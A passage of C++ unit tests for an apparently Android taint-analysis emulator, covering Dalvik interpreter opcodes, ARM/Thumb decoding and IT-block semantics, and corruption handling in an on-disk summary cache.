  cb.if_op(DOp::kIfGe, 2, 3, 3)     // if a >= b goto 3
      .binop(DOp::kSub, 0, 3, 2)    // 1: r = b - a
      .return_value(0)              // 2
      .binop(DOp::kSub, 0, 2, 3)    // 3: r = a - b
      .return_value(0);             // 4
  Method* m = device_.dvm.define_method(cls, "absdiff", "III",
                                        kAccPublic | kAccStatic, 4,
                                        cb.take());
  EXPECT_EQ(device_.dvm.call(*m, {Slot{10, 0}, Slot{3, 0}}).value, 7u);
  EXPECT_EQ(device_.dvm.call(*m, {Slot{3, 0}, Slot{10, 0}}).value, 7u);

  CodeBuilder ne;
  ne.if_op(DOp::kIfNe, 2, 3, 2)
      .return_value(2)   // equal: return a
      .const_imm(0, 0)   // 2
      .return_value(0);
  Method* mn = device_.dvm.define_method(cls, "eqz", "III",
                                         kAccPublic | kAccStatic, 4,
                                         ne.take());
  EXPECT_EQ(device_.dvm.call(*mn, {Slot{5, 0}, Slot{5, 0}}).value, 5u);
  EXPECT_EQ(device_.dvm.call(*mn, {Slot{5, 0}, Slot{6, 0}}).value, 0u);
}

TEST_F(InterpFixture, ArrayLengthCarriesArrayRefTaint) {
  ClassObject* cls = device_.dvm.define_class("Lops/Len;");
  CodeBuilder cb;
  cb.const_imm(1, 9)
      .new_array(0, 1, 4, false)
      .array_length(2, 0)
      .return_value(2);
  Method* m = device_.dvm.define_method(cls, "f", "I",
                                        kAccPublic | kAccStatic, 3,
                                        cb.take());
  EXPECT_EQ(device_.dvm.call(*m, {}).value, 9u);
}

TEST_F(InterpFixture, ObjectArrayOfStrings) {
  ClassObject* cls = device_.dvm.define_class("Lops/Oarr;");
  CodeBuilder cb;
  // arr = new Object[2]; arr[0] = "x"; return arr[0] (as ref)
  cb.const_imm(1, 2)
      .new_array(0, 1, 4, true)
      .const_string(2, "x")
      .const_imm(3, 0)
      .aput(2, 0, 3)
      .aget(4, 0, 3)
      .return_value(4);
  Method* m = device_.dvm.define_method(cls, "f", "L",
                                        kAccPublic | kAccStatic, 5,
                                        cb.take());
  const Slot r = device_.dvm.call(*m, {});
  Object* s = device_.dvm.heap().object_at(r.value);
  ASSERT_NE(s, nullptr);
  EXPECT_EQ(s->utf(), "x");
}

TEST_F(InterpFixture, OutOfBoundsArrayFaults) {
  ClassObject* cls = device_.dvm.define_class("Lops/Oob;");
  CodeBuilder cb;
  cb.const_imm(1, 2)
      .new_array(0, 1, 4, false)
      .const_imm(1, 5)
      .aget(2, 0, 1)
      .return_value(2);
  Method* m = device_.dvm.define_method(cls, "f", "I",
                                        kAccPublic | kAccStatic, 3,
                                        cb.take());
  EXPECT_THROW(device_.dvm.call(*m, {}), GuestFault);
}

TEST_F(InterpFixture, NullDereferenceFaults) {
  ClassObject* cls = device_.dvm.define_class("Lops/Null;");
  cls->add_instance_field("x", 'I');
  CodeBuilder cb;
  cb.const_imm(0, 0).iget(1, 0, 0).return_value(1);
  Method* m = device_.dvm.define_method(cls, "f", "I",
                                        kAccPublic | kAccStatic, 2,
                                        cb.take());
  EXPECT_THROW(device_.dvm.call(*m, {}), GuestFault);
}

}  // namespace
}  // namespace ndroid::dvm

namespace ndroid::arm {
namespace {

TEST(Disassembler, RepresentativeForms) {
  Assembler a(0x1000);
  a.add(R(1), R(2), R(3));
  const auto& buf = a.buffer();
  const u32 w = buf[0] | (buf[1] << 8) | (buf[2] << 16) | (buf[3] << 24);
  EXPECT_EQ(disassemble(decode_arm(w), 0x1000), "add r1, r2, r3");

  Assembler b(0);
  b.ldr(R(0), R(13), 8);
  const auto& bb = b.buffer();
  const u32 w2 = bb[0] | (bb[1] << 8) | (bb[2] << 16) | (bb[3] << 24);
  EXPECT_EQ(disassemble(decode_arm(w2), 0), "ldr r0, [sp, #8]");

  Assembler c(0);
  c.push({R(4), LR});
  const auto& cb = c.buffer();
  const u32 w3 = cb[0] | (cb[1] << 8) | (cb[2] << 16) | (cb[3] << 24);
  EXPECT_EQ(disassemble(decode_arm(w3), 0), "stm sp!, {r4,lr}");

  Assembler d(0);
  d.bx(LR);
  const auto& db = d.buffer();
  const u32 w4 = db[0] | (db[1] << 8) | (db[2] << 16) | (db[3] << 24);
  EXPECT_EQ(disassemble(decode_arm(w4), 0), "bx lr");
}

TEST(Disassembler, TraceDisassemblyOptionLogs) {
  android::Device device;
  core::NDroidConfig cfg;
  cfg.trace_disassembly = true;
  core::NDroid nd(device, cfg);

  apps::NativeLibBuilder lib(device, "libdis.so");
  auto& a = lib.a();
  const GuestAddr fn = lib.fn();
  a.add(R(0), R(2), R(3));
  a.ret();
  lib.install();
  dvm::ClassObject* cls = device.dvm.define_class("Ldis/App;");
  dvm::Method* m = device.dvm.define_native(
      cls, "f", "III", dvm::kAccPublic | dvm::kAccStatic, fn);
  device.dvm.call(*m, {dvm::Slot{1, 0}, dvm::Slot{2, 0}});
  EXPECT_TRUE(nd.log().contains("add r0, r2, r3"));
}

class DecoderFuzz : public ::testing::TestWithParam<u32> {};

TEST_P(DecoderFuzz, NeverCrashesAndClassifiesConsistently) {
  std::mt19937 rng(GetParam() * 0x9E3779B9u);
  for (int i = 0; i < 20000; ++i) {
    const u32 word = rng();
    const Insn insn = decode_arm(word);
    // taint_class and disassemble must be total functions over any decode.
    (void)insn.taint_class();
    (void)disassemble(insn, 0x1000);
    const u16 hw = static_cast<u16>(rng());
    const u16 hw2 = static_cast<u16>(rng());
    const Insn tinsn = decode_thumb(hw, hw2);
    (void)tinsn.taint_class();
    (void)disassemble(tinsn, 0x1000);
    EXPECT_TRUE(tinsn.length == 2 || tinsn.length == 4);
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, DecoderFuzz, ::testing::Range(1u, 5u));

}  // namespace
}  // namespace ndroid::arm
