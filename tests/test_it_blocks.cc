// Thumb IT-block semantics: decode, ITSTATE advance, flag suppression, and
// — the regression this file exists for — a conditional branch *inside* an
// IT block, where the unconditional branch encoding executes conditionally.
// Every behavioural case runs on both execution engines (interpretive and
// translation-block) and must agree bit for bit; the static CFG lifter's
// successor semantics for IT'd branches are cross-checked in
// test_static_cfg.cc against the same executor.
#include <gtest/gtest.h>

#include <array>

#include "arm/cpu.h"
#include "arm/decoder.h"
#include "arm/thumb_assembler.h"

namespace ndroid::arm {
namespace {

TEST(ItDecode, ItEncodings) {
  // IT EQ -> firstcond=0000, mask=1000.
  Insn insn = decode_thumb(0xBF08, 0);
  EXPECT_EQ(insn.op, Op::kIt);
  EXPECT_EQ(insn.imm, 0x08u);

  // ITTE NE -> firstcond=0001, suffix bits T=1,E=0, terminator -> 1101... :
  // mask = (fc0, !fc0, 1, 0) = 1 1 1 0? For NE fc0=1: T->1, E->0, term 1,
  // pad 0 -> mask=0b1010|? computed: (1<<2 | 0<<1 | 1)<<1 = 0b1010.
  insn = decode_thumb(0xBF1A, 0);
  EXPECT_EQ(insn.op, Op::kIt);
  EXPECT_EQ(insn.imm, 0x1Au);

  // Mask of zero is the hint space (NOP/YIELD/...), never an IT.
  EXPECT_EQ(decode_thumb(0xBF00, 0).op, Op::kNop);
  EXPECT_EQ(decode_thumb(0xBF10, 0).op, Op::kNop);
}

TEST(ItDecode, AssemblerMatchesArchitecturalEncoding) {
  ThumbAssembler a(0x10000);
  a.it(Cond::kEQ);        // IT EQ
  a.it(Cond::kNE, "T");   // ITT NE
  a.it(Cond::kNE, "E");   // ITE NE
  a.it(Cond::kGE, "TET"); // ITTET GE
  const auto code = a.finish();
  auto hw = [&](u32 i) {
    return static_cast<u16>(code[2 * i] | (code[2 * i + 1] << 8));
  };
  EXPECT_EQ(hw(0), 0xBF08);  // EQ=0000, mask 1000
  EXPECT_EQ(hw(1), 0xBF1C);  // NE=0001, fc0=1: T->1, term 1, pad -> 1100
  EXPECT_EQ(hw(2), 0xBF14);  // E->0, term 1, pad -> 0100
  // GE=1010, fc0=0: T->0, E->1, T->0, term 1 -> mask 0101.
  EXPECT_EQ(hw(3), 0xBFA5);
}

class ItFixture : public ::testing::TestWithParam<bool> {
 protected:
  static constexpr GuestAddr kCode = 0x10000;

  ItFixture() : cpu_(mem_, map_) {
    map_.add("code", kCode, 0x4000, mem::kRX);
    map_.add("[stack]", 0x70000, 0x10000, mem::kRW);
    cpu_.set_initial_sp(0x80000);
    cpu_.set_use_tb_cache(GetParam());
  }

  u32 run(ThumbAssembler& a, const std::vector<u32>& args = {}) {
    mem_.write_bytes(kCode, a.finish());
    return cpu_.call_function(kCode | 1, args);
  }

  mem::AddressSpace mem_;
  mem::MemoryMap map_;
  Cpu cpu_;
};

TEST_P(ItFixture, ThenElseSelection) {
  // if (r0 == 0) r0 = 11; else r0 = 22;  via ITE EQ.
  ThumbAssembler a(kCode);
  a.cmp_imm(R(0), 0);
  a.it(Cond::kEQ, "E");
  a.movs_imm(R(0), 11);  // then
  a.movs_imm(R(0), 22);  // else
  a.bx(LR);
  mem_.write_bytes(kCode, a.finish());
  EXPECT_EQ(cpu_.call_function(kCode | 1, {0}), 11u);
  EXPECT_EQ(cpu_.call_function(kCode | 1, {7}), 22u);
}

TEST_P(ItFixture, FlagWritesSuppressedInsideIt) {
  // r0 = 5; cmp r0, #5 (Z=1); IT EQ; adds r0, #1 — the adds must NOT write
  // flags despite its flag-setting encoding (result 6 would clear Z), so a
  // following beq still sees Z from the cmp and is taken.
  ThumbAssembler a(kCode);
  ThumbLabel taken;
  a.cmp_imm(R(0), 5);
  a.it(Cond::kEQ);
  a.adds_imm8(R(0), 1);  // executes (EQ), r0 = 6, flags untouched
  a.b(taken, Cond::kEQ); // Z still set from the cmp
  a.movs_imm(R(0), 99);  // must be skipped
  a.bx(LR);
  a.bind(taken);
  a.adds_imm8(R(0), 1);
  a.bx(LR);
  EXPECT_EQ(run(a, {5}), 7u);
}

TEST_P(ItFixture, ComparesStillSetFlagsInsideIt) {
  // IT'd CMP keeps its flag-setting nature: ITT NE; cmp r0, #3; then a
  // conditional move keyed on the *new* flags would misbehave if the cmp
  // were suppressed. Sequence: r0=3 -> NE fails on (r0-0)? Use r1 as flag
  // driver: cmp r1,#0 (NE when r1!=0); ITT NE { cmp r0,#3 ; nothing };
  // beq end -> taken iff the inner cmp ran and r0==3.
  ThumbAssembler a(kCode);
  ThumbLabel hit;
  a.cmp_imm(R(1), 0);
  a.it(Cond::kNE);
  a.cmp_imm(R(0), 3);
  a.b(hit, Cond::kEQ);
  a.movs_imm(R(0), 0);
  a.bx(LR);
  a.bind(hit);
  a.movs_imm(R(0), 1);
  a.bx(LR);
  mem_.write_bytes(kCode, a.finish());
  EXPECT_EQ(cpu_.call_function(kCode | 1, {3, 1}), 1u);  // inner cmp ran
  // r1 == 0: inner cmp skipped, flags stay from cmp r1,#0 -> Z set -> beq
  // taken regardless of r0. That is the architectural behaviour.
  EXPECT_EQ(cpu_.call_function(kCode | 1, {7, 0}), 1u);
}

TEST_P(ItFixture, ConditionalBranchInsideItBlock) {
  // The regression: an unconditionally-encoded B as the last IT instruction
  // is a conditional branch. if (r0 != 0) goto nonzero;
  ThumbAssembler a(kCode);
  ThumbLabel nonzero;
  a.cmp_imm(R(0), 0);
  a.it(Cond::kNE);
  a.b(nonzero);          // conditional via ITSTATE, not via encoding
  a.movs_imm(R(0), 42);  // fall-through (r0 == 0)
  a.bx(LR);
  a.bind(nonzero);
  a.movs_imm(R(0), 77);
  a.bx(LR);
  mem_.write_bytes(kCode, a.finish());
  EXPECT_EQ(cpu_.call_function(kCode | 1, {0}), 42u);
  EXPECT_EQ(cpu_.call_function(kCode | 1, {5}), 77u);
}

TEST_P(ItFixture, BranchMidItFlushesItstate) {
  // ITE with the branch in then-position: a taken branch mid-IT is
  // architecturally unpredictable; this substrate defines it as an ITSTATE
  // flush, so the instruction at the branch target executes normally rather
  // than being consumed as the leftover else-slot.
  ThumbAssembler a(kCode);
  ThumbLabel out;
  a.cmp_imm(R(0), 0);
  a.it(Cond::kEQ, "E");
  a.b(out);              // then: taken when r0 == 0; flushes the IT block
  a.movs_imm(R(0), 9);   // else: executes only when r0 != 0
  a.bind(out);
  a.adds_imm8(R(0), 1);  // must execute unconditionally after the flush
  a.bx(LR);
  mem_.write_bytes(kCode, a.finish());
  EXPECT_EQ(cpu_.call_function(kCode | 1, {0}), 1u);   // 0 + 1, not skipped
  EXPECT_EQ(cpu_.call_function(kCode | 1, {4}), 10u);  // 9 + 1
}

TEST_P(ItFixture, LongItBlockAllFour) {
  // ITTTT-equivalent accumulation: 4 covered adds, all-or-nothing.
  ThumbAssembler a(kCode);
  a.cmp_imm(R(0), 1);
  a.it(Cond::kEQ, "TTT");
  a.adds_imm8(R(1), 1);
  a.adds_imm8(R(1), 2);
  a.adds_imm8(R(1), 4);
  a.adds_imm8(R(1), 8);
  a.mov(R(0), R(1));
  a.bx(LR);
  mem_.write_bytes(kCode, a.finish());
  EXPECT_EQ(cpu_.call_function(kCode | 1, {1, 0}), 15u);
  EXPECT_EQ(cpu_.call_function(kCode | 1, {2, 0}), 0u);
}

TEST_P(ItFixture, MixedThenElseArithmetic) {
  // abs(): cmp r0,#0 ; IT MI ; rsb-equivalent via negs (MI = negative).
  ThumbAssembler a(kCode);
  a.cmp_imm(R(0), 0);
  a.it(Cond::kMI);
  a.negs(R(0), R(0));
  a.bx(LR);
  mem_.write_bytes(kCode, a.finish());
  EXPECT_EQ(cpu_.call_function(kCode | 1, {5}), 5u);
  EXPECT_EQ(cpu_.call_function(kCode | 1, {static_cast<u32>(-5)}), 5u);
}

INSTANTIATE_TEST_SUITE_P(Engines, ItFixture, ::testing::Values(false, true),
                         [](const ::testing::TestParamInfo<bool>& info) {
                           return info.param ? "TbCache" : "Interpretive";
                         });

/// Both engines must retire identical architectural state for an IT-heavy
/// function — the same bit-for-bit contract the golden-log tests pin for
/// the tracer.
TEST(ItEngineAgreement, RegisterFileMatches) {
  for (u32 arg : {0u, 1u, 2u, 3u, 0xFFFFFFFFu}) {
    std::array<u32, 2> results{};
    std::array<u32, 2> r4s{};
    for (int engine = 0; engine < 2; ++engine) {
      mem::AddressSpace mem;
      mem::MemoryMap map;
      Cpu cpu(mem, map);
      map.add("code", 0x10000, 0x4000, mem::kRX);
      map.add("[stack]", 0x70000, 0x10000, mem::kRW);
      cpu.set_initial_sp(0x80000);
      cpu.set_use_tb_cache(engine == 1);
      ThumbAssembler a(0x10000);
      ThumbLabel odd, join;
      a.push({R(4), LR});
      a.movs_imm(R(4), 0);
      a.lsrs(R(1), R(0), 1);  // carry = bit 0
      a.it(Cond::kCS, "E");
      a.adds_imm8(R(4), 10);  // odd
      a.adds_imm8(R(4), 20);  // even
      a.cmp_imm(R(0), 2);
      a.it(Cond::kHI);
      a.b(odd);
      a.adds_imm8(R(4), 1);
      a.bind(odd);
      a.cmp_imm(R(0), 1);
      a.it(Cond::kEQ, "TE");
      a.movs_imm(R(2), 7);
      a.adds(R(4), R(4), R(2));
      a.adds_imm8(R(4), 3);
      a.bind(join);
      a.mov(R(0), R(4));
      a.mov(R(1), R(4));
      a.pop({R(4), PC});
      mem.write_bytes(0x10000, a.finish());
      results[engine] = cpu.call_function(0x10000 | 1, {arg});
      r4s[engine] = cpu.state().regs[1];
    }
    EXPECT_EQ(results[0], results[1]) << "arg=" << arg;
    EXPECT_EQ(r4s[0], r4s[1]) << "arg=" << arg;
  }
}

}  // namespace
}  // namespace ndroid::arm
