// The persistent on-disk SummaryStore (src/static/summary_store): payload
// codec determinism, hash-verified loads, rejection of truncated /
// bit-flipped / version-skewed / mis-keyed entries, re-lift-and-rewrite
// through the SummaryCache, atomic tempfile+rename visibility under
// concurrent readers, and strict directory-scan parsing.
#include <gtest/gtest.h>

#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <atomic>
#include <cstdio>
#include <fstream>
#include <stdexcept>
#include <string>
#include <thread>
#include <vector>

#include "static/summary_cache.h"
#include "static/summary_store.h"

namespace ndroid {
namespace {

namespace sa = static_analysis;

std::string make_temp_dir() {
  char tmpl[] = "/tmp/ndroid_store_XXXXXX";
  const char* dir = ::mkdtemp(tmpl);
  EXPECT_NE(dir, nullptr);
  return dir;
}

/// A small but fully populated LibrarySummary: one function with a block,
/// an instruction, a memory access, a taint summary with a window, and
/// block boundaries — every payload section non-empty so the codec tests
/// exercise every encoder.
sa::LibrarySummary make_lib(u64 key, u32 image_size = 0x200) {
  sa::LibrarySummary lib;
  lib.key = key;
  lib.name = "libsynthetic.so";
  lib.lifted_base = 0x10000;
  lib.image_size = image_size;

  sa::BasicBlock bb;
  bb.start = 0x10000;
  bb.end = 0x10008;
  arm::Insn insn;
  insn.rd = 0;
  insn.rn = 1;
  insn.imm = 0x2A;
  insn.imm_operand = true;
  insn.raw = 0xE3A0002A;
  insn.length = 4;
  bb.insns.push_back(insn);
  bb.succs.push_back(0x10008);
  bb.is_return = true;
  bb.call_targets.push_back(0x10040);
  bb.call_target_relocatable.push_back(1);
  bb.jump_table = {sa::JumpTableKind::kTbb, 0x10010, 3, true};

  sa::FunctionCfg fn;
  fn.entry = 0x10000;
  fn.thumb = false;
  fn.name = "Java_com_example_f";
  fn.lo = 0x10000;
  fn.hi = 0x10008;
  fn.blocks.emplace(bb.start, bb);
  fn.insn_count = 1;
  sa::MemAccess access;
  access.pc = 0x10004;
  access.kind = sa::MemAccess::Kind::kConstAddr;
  access.addr = 0x20000;
  access.size = 4;
  access.is_store = true;
  access.image_rel = true;
  fn.mem_accesses.push_back(access);
  fn.resolved_indirect_branches = 1;
  fn.unresolved_indirect_branches = 2;
  fn.resolved_indirect_calls = 3;
  fn.unresolved_indirect_calls = 4;
  fn.degrade(0x10004, sa::DegradeReason::kUnknownMemAccess);
  fn.degrade(0x10006, sa::DegradeReason::kStaleJumpTable);
  lib.program.functions.emplace(fn.entry, fn);

  sa::TaintSummary summary;
  summary.entry = 0x10000;
  summary.name = fn.name;
  summary.touched_regs = 0x000F;
  summary.mem_kind = sa::MemKind::kStatic;
  sa::Window win;
  win.lo = 0x20000;
  win.hi = 0x20010;
  summary.windows.push_back(win);
  summary.args_to_ret = 0x3;
  lib.index.summaries.emplace(summary.entry, summary);

  lib.boundaries[0x10000] = {0x10000, 0x10004};
  return lib;
}

void flip_byte(const std::string& path, std::size_t offset) {
  std::fstream f(path, std::ios::in | std::ios::out | std::ios::binary);
  ASSERT_TRUE(f.is_open()) << path;
  f.seekg(static_cast<std::streamoff>(offset));
  char c = 0;
  f.read(&c, 1);
  c = static_cast<char>(c ^ 0x01);
  f.seekp(static_cast<std::streamoff>(offset));
  f.write(&c, 1);
}

std::size_t file_size(const std::string& path) {
  struct stat st{};
  EXPECT_EQ(::stat(path.c_str(), &st), 0) << path;
  return static_cast<std::size_t>(st.st_size);
}

TEST(SummaryStore, PayloadCodecRoundTripsDeterministically) {
  const sa::LibrarySummary lib = make_lib(0xABCDEF0123456789ull);
  const std::vector<u8> bytes = sa::SummaryStore::encode(lib);
  ASSERT_FALSE(bytes.empty());

  const sa::LibrarySummary back = sa::SummaryStore::decode(bytes);
  EXPECT_EQ(back.key, lib.key);
  EXPECT_EQ(back.name, lib.name);
  EXPECT_EQ(back.lifted_base, lib.lifted_base);
  EXPECT_EQ(back.image_size, lib.image_size);
  ASSERT_EQ(back.program.functions.size(), 1u);
  const sa::FunctionCfg& fn = back.program.functions.begin()->second;
  EXPECT_EQ(fn.name, "Java_com_example_f");
  ASSERT_EQ(fn.blocks.size(), 1u);
  const sa::BasicBlock& bb = fn.blocks.begin()->second;
  ASSERT_EQ(bb.insns.size(), 1u);
  EXPECT_EQ(bb.insns[0].raw, 0xE3A0002Au);
  EXPECT_TRUE(bb.insns[0].imm_operand);
  ASSERT_EQ(fn.mem_accesses.size(), 1u);
  EXPECT_EQ(fn.mem_accesses[0].kind, sa::MemAccess::Kind::kConstAddr);
  // The v2 precision surface survives the round trip verbatim.
  EXPECT_TRUE(fn.mem_accesses[0].image_rel);
  EXPECT_EQ(bb.jump_table.kind, sa::JumpTableKind::kTbb);
  EXPECT_EQ(bb.jump_table.table, 0x10010u);
  EXPECT_EQ(bb.jump_table.entries, 3u);
  EXPECT_TRUE(bb.jump_table.image_rel);
  ASSERT_EQ(bb.call_target_relocatable.size(), 1u);
  EXPECT_EQ(bb.call_target_relocatable[0], 1u);
  EXPECT_EQ(fn.resolved_indirect_branches, 1u);
  EXPECT_EQ(fn.unresolved_indirect_branches, 2u);
  EXPECT_EQ(fn.resolved_indirect_calls, 3u);
  EXPECT_EQ(fn.unresolved_indirect_calls, 4u);
  ASSERT_EQ(fn.degrade_sites.size(), 2u);
  EXPECT_EQ(fn.degrade_sites[0].pc, 0x10004u);
  EXPECT_EQ(fn.degrade_sites[0].reason,
            sa::DegradeReason::kUnknownMemAccess);
  EXPECT_EQ(fn.degrade_sites[1].reason, sa::DegradeReason::kStaleJumpTable);
  ASSERT_EQ(back.index.summaries.size(), 1u);
  EXPECT_EQ(back.index.summaries.begin()->second.windows.size(), 1u);
  EXPECT_EQ(back.boundaries.at(0x10000).count(0x10004), 1u);

  // Deterministic: decode → encode reproduces the exact bytes (boundaries
  // are sorted on encode, so unordered_set iteration order cannot leak in).
  EXPECT_EQ(sa::SummaryStore::encode(back), bytes);
}

TEST(SummaryStore, SaveThenLoadRoundTrips) {
  const std::string dir = make_temp_dir();
  const u64 key = 0x1122334455667788ull;
  const sa::LibrarySummary lib = make_lib(key);

  sa::SummaryStore store(dir);
  ASSERT_TRUE(store.save(lib));
  EXPECT_EQ(store.stats().writes, 1u);
  EXPECT_EQ(file_size(store.path_for(key)),
            sa::SummaryStore::kHeaderSize + sa::SummaryStore::encode(lib).size());

  // A *different* store instance (a later run) sees the entry.
  sa::SummaryStore reopened(dir);
  const auto loaded = reopened.load(key);
  ASSERT_NE(loaded, nullptr);
  EXPECT_EQ(sa::SummaryStore::encode(*loaded), sa::SummaryStore::encode(lib));
  EXPECT_EQ(reopened.stats().loads, 1u);
  EXPECT_EQ(reopened.stats().hits, 1u);
  EXPECT_EQ(reopened.stats().corrupt, 0u);

  // Absent keys are misses, not corruption.
  EXPECT_EQ(reopened.load(key + 1), nullptr);
  EXPECT_EQ(reopened.stats().corrupt, 0u);
}

TEST(SummaryStore, TruncatedEntryRejectedThenRewritten) {
  const std::string dir = make_temp_dir();
  const u64 key = 0x42;
  sa::SummaryStore store(dir);
  ASSERT_TRUE(store.save(make_lib(key)));
  const std::string path = store.path_for(key);

  ASSERT_EQ(::truncate(path.c_str(), static_cast<off_t>(file_size(path) - 7)),
            0);
  EXPECT_EQ(store.load(key), nullptr);
  EXPECT_EQ(store.stats().corrupt, 1u);

  // Truncated below the header too (the fstat guard path).
  ASSERT_EQ(::truncate(path.c_str(), 9), 0);
  EXPECT_EQ(store.load(key), nullptr);
  EXPECT_EQ(store.stats().corrupt, 2u);

  // save() rewrites the slot whole; the entry is valid again.
  ASSERT_TRUE(store.save(make_lib(key)));
  EXPECT_NE(store.load(key), nullptr);
  EXPECT_EQ(store.stats().corrupt, 2u);
}

TEST(SummaryStore, BitFlipAnywhereRejected) {
  const std::string dir = make_temp_dir();
  const u64 key = 0x43;
  sa::SummaryStore store(dir);
  ASSERT_TRUE(store.save(make_lib(key)));
  const std::string path = store.path_for(key);

  // In the payload: the stored FNV-1a no longer matches.
  flip_byte(path, sa::SummaryStore::kHeaderSize + 3);
  EXPECT_EQ(store.load(key), nullptr);
  EXPECT_EQ(store.stats().corrupt, 1u);
  flip_byte(path, sa::SummaryStore::kHeaderSize + 3);  // restore
  ASSERT_NE(store.load(key), nullptr);

  // In the header: magic breaks.
  flip_byte(path, 0);
  EXPECT_EQ(store.load(key), nullptr);

  // In the header: the key field no longer matches the requested key.
  flip_byte(path, 0);  // restore magic
  flip_byte(path, 8);
  EXPECT_EQ(store.load(key), nullptr);
}

TEST(SummaryStore, VersionSkewRejectedEvenWithValidHash) {
  const std::string dir = make_temp_dir();
  const u64 key = 0x44;
  sa::SummaryStore store(dir);
  ASSERT_TRUE(store.save(make_lib(key)));

  // The version field (header offset 4) is outside the payload hash, so
  // this entry is bytewise self-consistent — only the version check can
  // reject it. Stale-format facts must never deserialize.
  flip_byte(store.path_for(key), 4);
  EXPECT_EQ(store.load(key), nullptr);
  EXPECT_EQ(store.stats().corrupt, 1u);
}

TEST(SummaryStore, MisKeyedEntryRejected) {
  const std::string dir = make_temp_dir();
  const u64 key = 0x45;
  const u64 other = 0x46;
  sa::SummaryStore store(dir);
  ASSERT_TRUE(store.save(make_lib(key)));

  // A valid entry renamed over another key's slot (header and payload both
  // still name `key`) must not satisfy a load of `other`.
  ASSERT_EQ(::rename(store.path_for(key).c_str(),
                     store.path_for(other).c_str()),
            0);
  EXPECT_EQ(store.load(other), nullptr);
  EXPECT_EQ(store.stats().corrupt, 1u);
}

TEST(SummaryStore, KeysScansOnlyWellFormedEntryNames) {
  const std::string dir = make_temp_dir();
  sa::SummaryStore store(dir);
  ASSERT_TRUE(store.save(make_lib(0x10)));
  ASSERT_TRUE(store.save(make_lib(0x2000)));

  // Junk that must not parse as entries: wrong prefix, wrong length,
  // non-hex digits, and a leftover tempfile from a crashed writer.
  for (const char* junk :
       {"foo.txt", "sum_zz00000000000000.nss", "sum_123.nss",
        ".nss.tmp.12345.1", "sum_0000000000000010.nss.bak"}) {
    std::ofstream(dir + "/" + junk) << "junk";
  }

  EXPECT_EQ(store.keys(), (std::vector<u64>{0x10, 0x2000}));
}

TEST(SummaryStore, CtorThrowsWhenDirectoryUncreatable) {
  const std::string dir = make_temp_dir();
  const std::string blocker = dir + "/file";
  std::ofstream(blocker) << "x";
  EXPECT_THROW(sa::SummaryStore{blocker + "/sub"}, std::runtime_error);
}

TEST(SummaryStore, CacheReliftsCorruptEntryAndRewritesIt) {
  const std::string dir = make_temp_dir();
  const u64 key = 0x77;
  sa::SummaryStore store(dir);

  int lifts = 0;
  const auto lift = [&] {
    ++lifts;
    return make_lib(key);
  };

  {  // First acquire: miss everywhere → lift → written back to disk.
    sa::SummaryCache cache;
    cache.set_store(&store);
    ASSERT_NE(cache.acquire(key, 0x10000, lift), nullptr);
    EXPECT_EQ(lifts, 1);
    EXPECT_EQ(cache.stats().store_writes, 1u);
  }
  {  // Fresh cache (a new run): served from disk, no lift.
    sa::SummaryCache cache;
    cache.set_store(&store);
    ASSERT_NE(cache.acquire(key, 0x10000, lift), nullptr);
    EXPECT_EQ(lifts, 1);
    EXPECT_EQ(cache.stats().store_hits, 1u);
  }

  flip_byte(store.path_for(key), sa::SummaryStore::kHeaderSize + 1);

  {  // Corrupt entry: rejected, re-lifted, and rewritten...
    sa::SummaryCache cache;
    cache.set_store(&store);
    ASSERT_NE(cache.acquire(key, 0x10000, lift), nullptr);
    EXPECT_EQ(lifts, 2);
    EXPECT_EQ(cache.stats().store_hits, 0u);
    EXPECT_EQ(cache.stats().store_writes, 1u);
  }
  {  // ...so the next run is warm again.
    sa::SummaryCache cache;
    cache.set_store(&store);
    ASSERT_NE(cache.acquire(key, 0x10000, lift), nullptr);
    EXPECT_EQ(lifts, 2);
    EXPECT_EQ(cache.stats().store_hits, 1u);
  }
}

TEST(SummaryStore, WarmFromStorePublishesEverythingSkippingCorrupt) {
  const std::string dir = make_temp_dir();
  sa::SummaryStore store(dir);
  ASSERT_TRUE(store.save(make_lib(0x100)));
  ASSERT_TRUE(store.save(make_lib(0x200)));
  ASSERT_TRUE(store.save(make_lib(0x300)));
  flip_byte(store.path_for(0x200), sa::SummaryStore::kHeaderSize);

  sa::SummaryCache cache;
  cache.set_store(&store);
  EXPECT_EQ(cache.warm_from_store(), 2u);
  EXPECT_EQ(cache.size(), 2u);

  // Warmed entries serve without lifting; the corrupt one re-lifts.
  int lifts = 0;
  const auto lift_of = [&](u64 key) {
    return [&lifts, key] {
      ++lifts;
      return make_lib(key);
    };
  };
  EXPECT_NE(cache.acquire(0x100, 0x10000, lift_of(0x100)), nullptr);
  EXPECT_NE(cache.acquire(0x300, 0x10000, lift_of(0x300)), nullptr);
  EXPECT_EQ(lifts, 0);
  EXPECT_NE(cache.acquire(0x200, 0x10000, lift_of(0x200)), nullptr);
  EXPECT_EQ(lifts, 1);
  // The re-lift repaired the on-disk entry.
  EXPECT_NE(store.load(0x200), nullptr);
}

TEST(SummaryStore, ConcurrentReadersNeverObserveAPartialWrite) {
  // The atomicity contract: save() goes through a tempfile + rename(2), so
  // a reader racing the writer sees either the complete old entry or the
  // complete new one. Any partial write would fail the hash check and show
  // up in the corrupt counter.
  const std::string dir = make_temp_dir();
  const u64 key = 0x99;
  sa::SummaryStore store(dir);
  ASSERT_TRUE(store.save(make_lib(key, /*image_size=*/0x100)));

  std::atomic<bool> done{false};
  std::thread writer([&] {
    for (u32 i = 0; i < 100; ++i) {
      // Alternate two distinct contents so renames actually change bytes.
      EXPECT_TRUE(store.save(make_lib(key, i % 2 == 0 ? 0x100 : 0x200)));
    }
    done = true;
  });

  u64 observed = 0;
  while (!done || observed == 0) {
    const auto lib = store.load(key);
    ASSERT_NE(lib, nullptr);
    EXPECT_TRUE(lib->image_size == 0x100 || lib->image_size == 0x200)
        << lib->image_size;
    ++observed;
  }
  writer.join();
  EXPECT_EQ(store.stats().corrupt, 0u);
  EXPECT_EQ(store.stats().hits, observed);
}

}  // namespace
}  // namespace ndroid
