// The parallel analysis farm (src/farm): result determinism across worker
// counts, exactly-one-lift cache semantics under concurrency, reproducible
// seeded monkey runs, and cross-app summary sharing on the market corpus.
#include <gtest/gtest.h>

#include <atomic>
#include <chrono>
#include <cstdlib>
#include <string>
#include <thread>
#include <utility>
#include <vector>

#include "arm/assembler.h"
#include "farm/farm.h"
#include "farm/market_app.h"
#include "farm/providers.h"
#include "static/summary_cache.h"

// Fork-based process topologies are incompatible with TSan's runtime (its
// background thread makes every fork multithreaded); the thread topologies
// above still run under TSan.
